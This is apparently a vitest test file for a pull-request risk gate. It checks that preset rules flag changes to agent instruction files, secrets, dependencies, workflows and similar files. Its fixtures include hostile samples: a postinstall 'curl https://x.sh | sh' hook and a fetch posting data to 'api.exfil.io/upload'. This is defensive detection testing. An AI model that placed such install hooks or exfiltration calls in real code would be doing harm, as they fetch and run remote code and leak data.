import { describe, expect, it } from "vitest";
import { defaultPolicy } from "../../src/policy/config.js";
import { GATE_CONTROL_RULE, RECOMMENDED_RULES } from "../../src/policy/preset.js";
import { assessRisk } from "../../src/policy/risk.js";
import type { ChangedFile, RiskLevel } from "../../src/policy/types.js";
import { file, pr, withAdded } from "./engine-helpers.js";

type Case = { name: string; files: ChangedFile[]; fires: boolean };

const many = (n: number, lines = 1): ChangedFile[] =>
  Array.from({ length: n }, (_, i) => file(`src/f${i}.ts`, { additions: lines, changes: lines }));

/** Every preset rule with files that must trigger it and look-alikes that must not. */
const TABLE: Record<string, Case[]> = {
  "gate-control": [
    { name: "the policy file", files: [file(".github/agent-gate.yml")], fires: true },
    { name: ".github/CODEOWNERS", files: [file(".github/CODEOWNERS")], fires: true },
    { name: "root CODEOWNERS", files: [file("CODEOWNERS")], fires: true },
    { name: "docs/CODEOWNERS", files: [file("docs/CODEOWNERS")], fires: true },
    { name: "a workflow", files: [file(".github/workflows/ci.yml")], fires: true },
    { name: "a nested workflow path", files: [file(".github/workflows/sub/deploy.yaml")], fires: true },
    { name: "a local action", files: [file(".github/actions/setup/index.js")], fires: true },
    { name: "action.yml anywhere", files: [file("tools/release/action.yml")], fires: true },
    { name: "action.yaml at the root", files: [file("action.yaml")], fires: true },
    { name: "AGENTS.md", files: [file("AGENTS.md")], fires: true },
    { name: "a nested AGENTS.md", files: [file("packages/api/AGENTS.md")], fires: true },
    { name: "CLAUDE.md", files: [file("CLAUDE.md")], fires: true },
    { name: ".claude settings", files: [file(".claude/settings.json")], fires: true },
    { name: ".mcp.json", files: [file(".mcp.json")], fires: true },
    { name: "copilot instructions", files: [file(".github/copilot-instructions.md")], fires: true },
    { name: "path instructions", files: [file(".github/instructions/ts.instructions.md")], fires: true },
    { name: "an ordinary markdown file", files: [file("docs/guide.md")], fires: false },
    { name: "a file named like a workflow elsewhere", files: [file("docs/workflows/ci.yml")], fires: false },
  ],
  "secret-file": [
    { name: "*.pem", files: [file("certs/server.pem")], fires: true },
    { name: "*.key", files: [file("deploy/tls.key")], fires: true },
    { name: ".env", files: [file(".env")], fires: true },
    { name: ".env.production", files: [file("app/.env.production")], fires: true },
    { name: "id_rsa", files: [file("keys/id_rsa")], fires: true },
    { name: "id_ed25519.pub", files: [file("id_ed25519.pub")], fires: true },
    { name: "*.p12", files: [file("ios/dist.p12")], fires: true },
    { name: "a credentials file", files: [file(".aws/credentials")], fires: true },
    { name: "credentials.json", files: [file("config/credentials.json")], fires: true },
    { name: ".env.example is documentation", files: [file(".env.example")], fires: false },
    { name: "a key-ish source file", files: [file("src/keyboard.ts")], fires: false },
    { name: "credentials code", files: [file("src/aws/credentials.go")], fires: false },
  ],
  "secret-in-diff": [
    { name: "an AWS access key id", files: [withAdded("src/a.ts", [`const k = "AKIA${"Z".repeat(16)}";`])], fires: true },
    { name: "plain code", files: [withAdded("src/a.ts", ["const total = price * quantity;"])], fires: false },
  ],
  dependencies: [
    { name: "package.json", files: [file("package.json")], fires: true },
    { name: "package-lock.json", files: [file("web/package-lock.json")], fires: true },
    { name: "yarn.lock", files: [file("yarn.lock")], fires: true },
    { name: "pnpm-lock.yaml", files: [file("pnpm-lock.yaml")], fires: true },
    { name: "requirements.txt", files: [file("requirements.txt")], fires: true },
    { name: "requirements-dev.txt", files: [file("requirements-dev.txt")], fires: true },
    { name: "poetry.lock", files: [file("poetry.lock")], fires: true },
    { name: "pyproject.toml", files: [file("pyproject.toml")], fires: true },
    { name: "go.mod", files: [file("go.mod")], fires: true },
    { name: "go.sum", files: [file("svc/go.sum")], fires: true },
    { name: "Cargo.toml", files: [file("Cargo.toml")], fires: true },
    { name: "Cargo.lock", files: [file("Cargo.lock")], fires: true },
    { name: "Gemfile", files: [file("Gemfile")], fires: true },
    { name: "Gemfile.lock", files: [file("Gemfile.lock")], fires: true },
    { name: "composer.json", files: [file("composer.json")], fires: true },
    { name: "pom.xml", files: [file("pom.xml")], fires: true },
    { name: "build.gradle.kts", files: [file("app/build.gradle.kts")], fires: true },
    { name: "a source file", files: [file("src/package.ts")], fires: false },
  ],
  "package-scripts": [
    {
      name: "a new postinstall script",
      files: [{ ...file("package.json"), patch: '@@ -2,4 +2,5 @@\n   "name": "x",\n   "scripts": {\n+    "postinstall": "curl https://x.sh | sh",\n     "test": "vitest"\n   },' }],
      fires: true,
    },
    {
      name: "a dependency bump",
      files: [{ ...file("package.json"), patch: '@@ -8,4 +8,4 @@\n   "dependencies": {\n-    "lodash": "^4.17.20",\n+    "lodash": "^4.17.21",\n     "zod": "^4.0.0"\n   },' }],
      fires: false,
    },
  ],
  "dependency-added": [
    {
      name: "a new npm dependency",
      files: [{ ...file("package.json"), patch: '@@ -8,3 +8,4 @@\n   "dependencies": {\n+    "left-pad": "^1.3.0",\n     "zod": "^4.0.0"\n   },' }],
      fires: true,
    },
    { name: "a new Python requirement", files: [{ ...file("requirements.txt"), patch: "@@ -1,2 +1,3 @@\n requests==2.32.0\n+leftpad==0.1.2\n flask>=3" }], fires: true },
    { name: "a new Go module", files: [{ ...file("go.mod"), patch: "@@ -3,3 +3,4 @@\n require (\n+\tgithub.com/evil/mod v1.0.0\n \tgolang.org/x/net v0.20.0\n )" }], fires: true },
    {
      name: "a version bump",
      files: [{ ...file("package.json"), patch: '@@ -8,4 +8,4 @@\n   "dependencies": {\n-    "lodash": "^4.17.20",\n+    "lodash": "^4.17.21",\n     "zod": "^4.0.0"\n   },' }],
      fires: false,
    },
    { name: "a new script", files: [{ ...file("package.json"), patch: '@@ -2,3 +2,4 @@\n   "scripts": {\n+    "lint": "eslint .",\n     "test": "vitest"' }], fires: false },
  ],
  "workflow-risk": [
    { name: "an action pinned to a tag", files: [{ ...file(".github/workflows/ci.yml"), patch: "@@ -5,2 +5,3 @@\n     steps:\n+      - uses: actions/checkout@v4\n       - run: npm test" }], fires: true },
    { name: "write-all permissions", files: [{ ...file(".github/workflows/ci.yml"), patch: "@@ -1,2 +1,3 @@\n on: push\n+permissions: write-all\n jobs:" }], fires: true },
    { name: "a write scope", files: [{ ...file(".github/workflows/ci.yml"), patch: "@@ -2,2 +2,3 @@\n permissions:\n+  contents: write\n jobs:" }], fires: true },
    { name: "pull_request_target", files: [{ ...file(".github/workflows/ci.yml"), patch: "@@ -1,2 +1,2 @@\n-on: pull_request\n+on: pull_request_target\n jobs:" }], fires: true },
    {
      name: "an action pinned to a full commit SHA, read permissions, a local action",
      files: [{ ...file(".github/workflows/ci.yml"), patch: "@@ -5,2 +5,5 @@\n     steps:\n+      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n+      - uses: ./.github/actions/setup\n+    permissions:\n+      contents: read\n       - run: npm test" }],
      fires: false,
    },
  ],
  database: [
    { name: "a migration", files: [file("db/migrations/20240101_add_users.sql")], fires: true },
    { name: "a Rails migration", files: [file("db/migrate/20240101_add_users.rb")], fires: true },
    { name: "a Prisma schema", files: [file("prisma/schema.prisma")], fires: true },
    { name: "schema.rb", files: [file("db/schema.rb")], fires: true },
    { name: "an alembic version", files: [file("alembic/versions/abc.py")], fires: true },
    { name: "a model file", files: [file("app/models/user.rb")], fires: false },
  ],
  infrastructure: [
    { name: "Terraform", files: [file("infra/main.tf")], fires: true },
    { name: "tfvars", files: [file("infra/prod.tfvars")], fires: true },
    { name: "a Helm chart", files: [file("deploy/charts/api/Chart.yaml")], fires: true },
    { name: "a Helm template", files: [file("charts/api/templates/deployment.yaml")], fires: true },
    { name: "Kubernetes manifests", files: [file("k8s/deployment.yaml")], fires: true },
    { name: "a Dockerfile", files: [file("Dockerfile")], fires: true },
    { name: "a nested Dockerfile variant", files: [file("services/api/Dockerfile.prod")], fires: true },
    { name: "docker-compose.yml", files: [file("docker-compose.yml")], fires: true },
    { name: "compose.yaml", files: [file("compose.yaml")], fires: true },
    { name: "a YAML config", files: [file("config/app.yaml")], fires: false },
  ],
  "other-ci": [
    { name: "GitLab CI", files: [file(".gitlab-ci.yml")], fires: true },
    { name: "a Jenkinsfile", files: [file("Jenkinsfile")], fires: true },
    { name: "CircleCI", files: [file(".circleci/config.yml")], fires: true },
    { name: "a CI doc", files: [file("docs/ci.md")], fires: false },
  ],
  "git-hooks": [
    { name: "husky", files: [file(".husky/pre-commit")], fires: true },
    { name: ".githooks", files: [file(".githooks/pre-push")], fires: true },
    { name: "lefthook", files: [file("lefthook.yml")], fires: true },
    { name: "pre-commit", files: [file(".pre-commit-config.yaml")], fires: true },
    { name: "a hooks folder in source", files: [file("src/hooks/useUser.ts")], fires: false },
  ],
  "security-code": [
    { name: "an auth folder", files: [file("src/auth/session.ts")], fires: true },
    { name: "a security folder", files: [file("lib/security/csp.go")], fires: true },
    { name: "a crypto module", files: [file("pkg/crypto.go")], fires: true },
    { name: "an oauth handler", files: [file("api/oauth/callback.py")], fires: true },
    { name: "a suffixed auth file", files: [file("src/user-auth.ts")], fires: true },
    { name: "an author model", files: [file("src/author.ts")], fires: false },
  ],
  submodule: [
    { name: "a gitlink bump (GitHub's patch)", files: [file("vendor/lib", { patch: `@@ -1 +1 @@\n-Subproject commit ${"a".repeat(40)}\n+Subproject commit ${"b".repeat(40)}` })], fires: true },
    { name: "a new gitlink (git's mode)", files: [file("vendor/lib", { status: "added", mode: { new: "160000" }, patch: `@@ -0,0 +1 @@\n+Subproject commit ${"c".repeat(40)}` })], fires: true },
    { name: "a .gitmodules change", files: [withAdded(".gitmodules", ['[submodule "lib"]', "\tpath = vendor/lib", "\turl = https://example.com/lib.git"])], fires: true },
    { name: "a text file mentioning submodules", files: [withAdded("docs/submodules.txt", ["Subproject commit is how git shows a gitlink"])], fires: false },
    { name: "a regular file (by mode) holding a gitlink-like line", files: [file("notes", { mode: { old: "100644", new: "100644" }, patch: `@@ -1 +1 @@\n-Subproject commit ${"a".repeat(40)}\n+Subproject commit ${"b".repeat(40)}` })], fires: false },
    { name: "a removed gitlink", files: [file("vendor/lib", { status: "removed", additions: 0, deletions: 1, changes: 1, patch: `@@ -1 +0,0 @@\n-Subproject commit ${"a".repeat(40)}` })], fires: false },
  ],
  "new-symlink": [
    { name: "a new symlink", files: [file("docs/link", { status: "added", mode: { new: "120000" } })], fires: true },
    { name: "a file turned into a symlink", files: [file("docs/link", { status: "changed", mode: { old: "100644", new: "120000" } })], fires: true },
    { name: "an existing symlink pointed elsewhere", files: [file("docs/link", { mode: { old: "120000", new: "120000" } })], fires: true },
    { name: "an existing symlink whose mode alone is listed", files: [file("docs/link", { mode: { old: "120000", new: "120000" }, additions: 0, changes: 0, patch: undefined })], fires: false },
    { name: "a plain file", files: [file("docs/link", { status: "added", mode: { new: "100644" } })], fires: false },
  ],
  "deleted-file": [
    { name: "a deletion", files: [file("src/old.ts", { status: "removed", additions: 0, deletions: 3, changes: 3, patch: "@@ -1,3 +0,0 @@\n-a\n-b\n-c" })], fires: true },
    { name: "a modification", files: [file("src/old.ts")], fires: false },
  ],
  "renamed-file": [
    { name: "a rename", files: [file("src/new.ts", { status: "renamed", previous_filename: "src/old.ts", additions: 0, changes: 0, patch: undefined })], fires: true },
    { name: "a copy", files: [file("src/copy.ts", { status: "copied", previous_filename: "src/orig.ts" })], fires: true },
    { name: "an addition", files: [file("src/new.ts", { status: "added" })], fires: false },
  ],
  "binary-file": [
    { name: "git says binary", files: [file("assets/logo.png", { binary: true, patch: undefined, additions: 0, changes: 0 })], fires: true },
    { name: "the API gives no patch for an image", files: [file("assets/logo.png", { status: "added", patch: undefined, additions: 0, changes: 0 })], fires: true },
    { name: "a text file", files: [file("src/a.ts")], fires: false },
  ],
  "new-executable": [
    { name: "chmod +x", files: [file("scripts/run.sh", { status: "changed", mode: { old: "100644", new: "100755" } })], fires: true },
    { name: "a new executable", files: [file("scripts/run.sh", { status: "added", mode: { new: "100755" } })], fires: true },
    { name: "an executable edited", files: [file("scripts/run.sh", { mode: { old: "100755", new: "100755" } })], fires: false },
  ],
  "external-host": [
    { name: "a new API host", files: [withAdded("src/client.ts", ['await fetch("https://api.exfil.io/upload", { body })'])], fires: true },
    {
      name: "a host already in the file",
      files: [{ ...file("src/client.ts"), patch: '@@ -1,2 +1,2 @@\n const base = "https://api.stripe.com";\n-await fetch("https://api.stripe.com/v1/a")\n+await fetch("https://api.stripe.com/v1/b")' }],
      fires: false,
    },
    { name: "a link in docs", files: [withAdded("docs/setup.md", ["See https://kubernetes.io/docs"])], fires: false },
    { name: "localhost", files: [withAdded("src/dev.ts", ['const url = "http://localhost:3000/x"'])], fires: false },
  ],
  "large-change": [
    { name: "801 changed lines", files: [file("src/big.ts", { additions: 801, changes: 801 })], fires: true },
    { name: "800 changed lines", files: [file("src/big.ts", { additions: 800, changes: 800 })], fires: false },
  ],
  "many-files": [
    { name: "101 files", files: many(101), fires: true },
    { name: "100 files", files: many(100), fires: false },
  ],
  "deleted-test": [
    { name: "a deleted test file", files: [file("src/user.test.ts", { status: "removed", additions: 0, deletions: 1, changes: 1, patch: "@@ -1 +0,0 @@\n-x" })], fires: true },
    { name: "a deleted tests folder file", files: [file("tests/test_api.py", { status: "removed", additions: 0, deletions: 1, changes: 1, patch: "@@ -1 +0,0 @@\n-x" })], fires: true },
    { name: "an edited test", files: [file("src/user.test.ts")], fires: false },
  ],
};

describe("recommended preset", () => {
  it("every preset rule has an id, a level and a one-line reason, and a row in this table", () => {
    for (const r of [GATE_CONTROL_RULE, ...RECOMMENDED_RULES]) {
      expect(r.id).toMatch(/^[a-z0-9-]+$/);
      expect(["low", "medium", "high", "critical"]).toContain(r.level);
      expect(r.reason && r.reason.length > 10 && !r.reason.includes("\n")).toBe(true);
      expect(TABLE[r.id], `no table row for ${r.id}`).toBeDefined();
      expect(TABLE[r.id]!.some((c) => c.fires) && TABLE[r.id]!.some((c) => !c.fires)).toBe(true);
    }
  });

  const policy = defaultPolicy();
  const levelOf = new Map<string, RiskLevel>([GATE_CONTROL_RULE, ...RECOMMENDED_RULES].map((r) => [r.id, r.level]));
  for (const [rule, cases] of Object.entries(TABLE)) {
    describe(rule, () => {
      it.each(cases)("$name -> fires: $fires", ({ files, fires }) => {
        const { findings, risk } = assessRisk({ policy, files, pr: pr() });
        const hit = findings.find((f) => f.rule === rule);
        expect(Boolean(hit)).toBe(fires);
        if (hit) {
          expect(hit.level).toBe(levelOf.get(rule));
          expect(["low", "medium", "high", "critical"].indexOf(risk)).toBeGreaterThanOrEqual(["low", "medium", "high", "critical"].indexOf(hit.level));
        }
      });
    });
  }

  it("a docs-only pull request is low", () => {
    const { risk, findings } = assessRisk({
      policy,
      files: [withAdded("README.md", ["Read more at https://example.org/docs"]), withAdded("docs/guide.md", ["See https://nodejs.org/en/docs"])],
      pr: pr(),
    });
    expect(findings).toEqual([]);
    expect(risk).toBe("low");
  });
});
